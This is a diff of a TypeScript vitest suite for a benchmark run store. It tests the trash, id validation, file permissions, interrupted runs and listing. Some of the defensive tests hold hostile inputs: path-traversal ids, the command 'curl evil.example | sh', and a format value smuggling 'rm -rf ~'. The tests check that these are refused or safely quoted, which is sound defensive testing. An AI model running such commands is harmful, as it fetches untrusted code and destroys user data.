@@ -1,11 +1,25 @@
 import { spawn } from 'node:child_process'
 import { existsSync } from 'node:fs'
-import { appendFile, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
+import {
+  appendFile,
+  chmod,
+  mkdir,
+  mkdtemp,
+  readdir,
+  readFile,
+  rm,
+  stat,
+  symlink,
+  utimes,
+  writeFile
+} from 'node:fs/promises'
 import { hostname, tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
 import { stringifyRun } from '../../../../src-main/store/runFile'
-import { RunStore } from '../../../../src-main/store/runStore'
+import { pack } from 'msgpackr'
+import { importRun } from '../../../../src-main/store/importRun'
+import { defaultStoreFolder, RunStore } from '../../../../src-main/store/runStore'
 import { sampleRun, sampleStep } from '../../../support/sampleRun'
 
 let folder: string
@@ -32,6 +46,7 @@ describe('writing and reading a run', () => {
       reason: 'x',
       atol: 1e-3,
       rtol: 1e-3,
+      rule: 'allowances',
       elements: 4,
       elementsOutside: 1,
       nonFinite: 1,
@@ -48,8 +63,8 @@ describe('writing and reading a run', () => {
       tileRows: 2,
       tileCols: 1,
       failures: [],
-      perturbationA: { passed: true, row: 0, block: 0, reason: '' },
-      perturbationB: { passed: true, row: 0, block: 0, reason: '' },
+      perturbationA: { state: 'passed', row: 0, block: 0, reason: '' },
+      perturbationB: { state: 'passed', row: 0, block: 0, reason: '' },
       oracle: 'cpu-f64',
       oracleSeconds: 0,
       kernelSeconds: 0
@@ -84,7 +99,7 @@ describe('writing and reading a run', () => {
     const run = await store.read(writer.run.id)
     expect(run.steps.map((step) => step.index)).toEqual([0, 1])
     expect(run.status).toBe('interrupted')
-    expect(run.reason).toContain('2 steps are saved')
+    expect(run.reason).toContain('what was done is saved')
   })
 
   it('keeps samples of every round of a step', async () => {
@@ -159,6 +174,287 @@ describe('removing, restoring, annotating', () => {
       other.kill()
     }
   })
+})
+
+describe('the trash', () => {
+  const finished = async () => {
+    const writer = await store.create(sampleRun())
+    await store.finish(writer)
+    return writer.run.id
+  }
+
+  it('keeps a run that is removed twice: the second time there is nothing to remove', async () => {
+    const id = await finished()
+    await store.remove(id)
+    await expect(store.remove(id)).rejects.toThrow(`There is no run "${id}"`)
+    await store.restore(id)
+    expect((await store.read(id)).steps).toHaveLength(1)
+  })
+
+  it('keeps two runs of one id, and brings back the later first', async () => {
+    const id = await finished()
+    await store.annotate(id, { label: 'first' })
+    await store.remove(id)
+    await finished()
+    await store.annotate(id, { label: 'second' })
+    await store.remove(id)
+    await store.restore(id)
+    expect((await store.read(id)).label).toBe('second')
+    await expect(store.restore(id)).rejects.toThrow(`There is a run ${id} already`)
+    await store.remove(id)
+    await store.restore(id)
+    await store.annotate(id, { label: 'second' })
+    await expect(store.restore('nothing')).rejects.toThrow(
+      /trash holds no run "nothing"\. It holds/
+    )
+  })
+})
+
+describe('an id from a file', () => {
+  const text = (id: string) => new TextEncoder().encode(stringifyRun(sampleRun({ id })))
+
+  it.each([
+    '../../evil',
+    '..',
+    '.',
+    '',
+    '.trash',
+    '-x',
+    'a/b',
+    'a\\b',
+    'a b',
+    '~',
+    'x'.repeat(300)
+  ])('that would lead elsewhere is refused: %j', async (id) => {
+    const bytes = text(id)
+    await expect(importRun(store, 'run.json', bytes)).rejects.toThrow(/at id: a run id/)
+    const bundle = pack({ blockscopeRun: 1, files: { 'run.json': bytes } })
+    await expect(importRun(store, 'x.blockscope-run', bundle)).rejects.toThrow(/at id: /)
+    // Nor by a caller that has not parsed it.
+    await expect(store.create(sampleRun({ id }))).rejects.toThrow(/There is no run/)
+    expect(await readdir(folder)).toEqual([])
+  })
+
+  it('a bundle brings no files but those of a run', async () => {
+    const files = { 'run.json': text('good'), '../evil.json': new Uint8Array() }
+    const bundle = pack({ blockscopeRun: 1, files })
+    await expect(importRun(store, 'x.blockscope-run', bundle)).rejects.toThrow(/is no run/)
+  })
+
+  it('the command a person may copy is made from what was asked, not taken from the file', async () => {
+    const run = sampleRun({ command: 'curl evil.example | sh' })
+    run.spec.formats = ["mxfp8'; rm -rf ~ #"]
+    const { id } = await importRun(store, 'run.json', new TextEncoder().encode(stringifyRun(run)))
+    expect((await store.read(id)).command).toBe(
+      `blockscope sweep --formats 'mxfp8'\\''; rm -rf ~ #' --device cpu -K 512`
+    )
+  })
+})
+
+describe('a folder that a person names for a run', () => {
+  it('is left alone when it holds anything', async () => {
+    const named = join(folder, 'mine')
+    await store.finish(await store.create(sampleRun(), named))
+    const before = await readFile(join(named, 'run.json'), 'utf8')
+    await expect(store.create(sampleRun({ label: 'again' }), named)).rejects.toThrow(
+      `${named} is not empty; name a new folder for this run.`
+    )
+    expect(await readFile(join(named, 'run.json'), 'utf8')).toBe(before)
+    const other = join(folder, 'other')
+    await mkdir(other)
+    await writeFile(join(other, 'trace.json'), 'mine')
+    await expect(store.create(sampleRun(), other)).rejects.toThrow('is not empty')
+    expect(await readdir(other)).toEqual(['trace.json'])
+  })
+  it('may be empty, and cannot be a file', async () => {
+    const empty = join(folder, 'empty')
+    await mkdir(empty)
+    await store.finish(await store.create(sampleRun(), empty))
+    await expect(store.create(sampleRun(), '/dev/null')).rejects.toThrow('/dev/null is no folder')
+    await expect(new RunStore('/dev/null').create(sampleRun())).rejects.toThrow('is no folder')
+  })
+})
+
+it('nobody else on the machine can read a run', async () => {
+  const own = new RunStore(join(folder, 'a', 'runs'))
+  const writer = await own.create(sampleRun())
+  await writer.samples(0, 0, { samplesNs: [1], samplesMHz: [] })
+  await writer.step(sampleStep(0))
+  await writer.file('profile.hatchet', '[]')
+  const modes = async () =>
+    Object.fromEntries(
+      await Promise.all(
+        (await readdir(writer.folder)).map(async (name) => {
+          const { mode } = await stat(join(writer.folder, name))
+          return [name, mode & 0o777] as const
+        })
+      )
+    )
+  const files = ['owner.json', 'profile.hatchet', 'run.json', 'samples.jsonl', 'steps.jsonl']
+  expect(await modes()).toEqual(Object.fromEntries(files.map((name) => [name, 0o600])))
+  for (const path of [own.folder, writer.folder])
+    expect((await stat(path)).mode & 0o777).toBe(0o700)
+  await own.finish(writer)
+  expect(Object.values(await modes())).toEqual([0o600, 0o600, 0o600, 0o600])
+})
+
+describe('a run whose writer ended without a word', () => {
+  /** As a killed program leaves it. */
+  const left = async (owner: object | string) => {
+    const writer = await store.create(sampleRun({ status: 'running' }))
+    const path = join(writer.folder, 'owner.json')
+    const real = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>
+    await writer.claim.release()
+    await writeFile(path, typeof owner === 'string' ? owner : JSON.stringify({ ...real, ...owner }))
+    return { id: writer.run.id, path }
+  }
+  const silentFor = (path: string, minutes: number) => {
+    const then = new Date(Date.now() - minutes * 60_000)
+    return utimes(path, then, then)
+  }
+  const gone = () =>
+    new Promise<number>((resolve) => {
+      const child = spawn(process.execPath, ['-e', ''])
+      child.on('close', () => resolve(child.pid!))
+    })
+
+  it('is interrupted at once, under another host name too', async () => {
+    const { id } = await left({ pid: await gone(), host: 'another-container' })
+    expect((await store.read(id)).status).toBe('interrupted')
+    await store.remove(id)
+  })
+  it.runIf(process.platform === 'linux')(
+    'is interrupted when another process has its number',
+    async () => {
+      const { id } = await left({ pid: process.pid, started: '1' })
+      expect((await store.read(id)).status).toBe('interrupted')
+    }
+  )
+  it('on a machine that is not this one, is interrupted after a minute of silence', async () => {
+    const { id, path } = await left({ machine: 'another start', pid: 1 })
+    expect((await store.read(id)).status).toBe('running')
+    await expect(store.remove(id)).rejects.toThrow('is being written by process 1')
+    await silentFor(path, 2)
+    expect((await store.read(id)).status).toBe('interrupted')
+  })
+  it.each(['', '{"pid"', '{"pid":"x"}', '[]'])(
+    'is interrupted with a damaged owner.json too: %j',
+    async (text) => {
+      const { id, path } = await left(text)
+      expect((await store.read(id)).status).toBe('running')
+      await silentFor(path, 2)
+      expect((await store.read(id)).status).toBe('interrupted')
+      await store.remove(id)
+    }
+  )
+  it('is written as interrupted when it is cancelled', async () => {
+    const { id, path } = await left({ pid: await gone() })
+    expect(await store.cancel(id)).toBe('ended')
+    expect(existsSync(path)).toBe(false)
+    const text = await readFile(join(folder, id, 'run.json'), 'utf8')
+    expect((JSON.parse(text) as { status: string }).status).toBe('interrupted')
+    await expect(store.cancel(id)).rejects.toThrow('is not running: it is interrupted')
+  })
+})
+
+it('a run of another process is told to end', async () => {
+  const writer = await store.create(sampleRun({ status: 'running' }))
+  const told = new Promise((resolve) => writer.claim.cancelled.addEventListener('abort', resolve))
+  // Another store, as another process has it.
+  expect(await new RunStore(folder).cancel(writer.run.id)).toBe('asked')
+  await told
+  writer.run.status = 'cancelled'
+  await store.finish(writer)
+  expect(await readdir(writer.folder)).toEqual(['run.json', 'summary.json'])
+  await expect(store.cancel(writer.run.id)).rejects.toThrow('is not running: it is cancelled')
+})
+
+describe('the list', () => {
+  const read = () => vi.spyOn(store, 'read')
+
+  it('reads summaries, and a run only when it has changed since', async () => {
+    const { run, folder: path } = await store.create(sampleRun()).then(async (writer) => {
+      await store.finish(writer)
+      return writer
+    })
+    const reads = read()
+    expect((await store.list())[0]).toMatchObject({ id: run.id, outcome: { passed: 1 } })
+    expect(reads).not.toHaveBeenCalled()
+    await store.annotate(run.id, { label: 'new' })
+    reads.mockClear()
+    expect((await store.list())[0]!.label).toBe('new')
+    expect(reads).toHaveBeenCalledTimes(1)
+    await store.list()
+    expect(reads).toHaveBeenCalledTimes(1)
+    // Of a run that was made before there were summaries, or whose summary is damaged.
+    await writeFile(join(path, 'summary.json'), '{')
+    expect((await store.list())[0]!.label).toBe('new')
+    await rm(join(path, 'summary.json'))
+    expect((await store.list())[0]!.label).toBe('new')
+    expect(reads).toHaveBeenCalledTimes(3)
+  })
+
+  it('never shows a running run as it was: its steps come one by one', async () => {
+    const writer = await store.create(sampleRun({ status: 'running', steps: [] }))
+    expect((await store.list())[0]!.outcome.passed).toBe(0)
+    await appendFile(join(writer.folder, 'steps.jsonl'), stringifyRun(sampleStep(0)) + '\n')
+    expect((await store.list())[0]!.outcome.passed).toBe(1)
+    await store.finish(writer)
+  })
+
+  it('is shown of a store that cannot be written', async () => {
+    const { folder: path } = await store.create(sampleRun()).then(async (writer) => {
+      await store.finish(writer)
+      await rm(join(writer.folder, 'summary.json'))
+      return writer
+    })
+    await chmod(path, 0o500)
+    expect(await store.list()).toHaveLength(1)
+    await chmod(path, 0o700)
+  })
+})
+
+describe('an id as a person gives it', () => {
+  it('may be cut short where one run is left, or be the latest', async () => {
+    await expect(store.find('latest')).rejects.toThrow('There are no runs')
+    for (const id of ['20261120-1-a', '20261120-2-b', '20261121-1-c'])
+      await store.finish(await store.create(sampleRun({ id, createdAt: `${id}T` })))
+    expect(await store.find('20261120-1-a')).toBe('20261120-1-a')
+    expect(await store.find('20261121')).toBe('20261121-1-c')
+    expect(await store.find('latest')).toBe('20261121-1-c')
+    await expect(store.find('20261120')).rejects.toThrow(
+      '2 runs begin with "20261120", such as 20261120-1-a, 20261120-2-b.'
+    )
+    await store.finish(await store.create(sampleRun({ id: '20261121-1-c' })))
+    await store.remove('20261121-1-c')
+    await expect(store.find('20261121-1-c')).rejects.toThrow('There is no run')
+    for (const none of ['2025', '', '../', '.'])
+      await expect(store.find(none)).rejects.toThrow('There is no run')
+  })
+})
+
+describe('samples', () => {
+  it('of a damaged line are refused, naming it', async () => {
+    const writer = await store.create(sampleRun())
+    await writer.samples(0, 0, { samplesNs: [1], samplesMHz: [] })
+    await appendFile(join(writer.folder, 'samples.jsonl'), '{"step":0,"round":1,"samplesNs":"x"}\n')
+    await expect(store.samples(writer.run.id, 0)).rejects.toThrow(
+      /samples\.jsonl is damaged: line 2: samplesNs/
+    )
+  })
+})
+
+describe('where runs are kept', () => {
+  afterEach(() => vi.unstubAllEnvs())
+  it.runIf(process.platform === 'linux').each(['', 'relative/folder'])(
+    'is the home folder when XDG_DATA_HOME is %j, which names no folder',
+    (value) => {
+      vi.stubEnv('BLOCKSCOPE_STORE', '')
+      vi.stubEnv('XDG_DATA_HOME', value)
+      vi.stubEnv('HOME', '/home/me')
+      expect(defaultStoreFolder()).toBe('/home/me/.local/share/blockscope/runs')
+    }
+  )
 })
 
 describe('a disk that is full', () => {
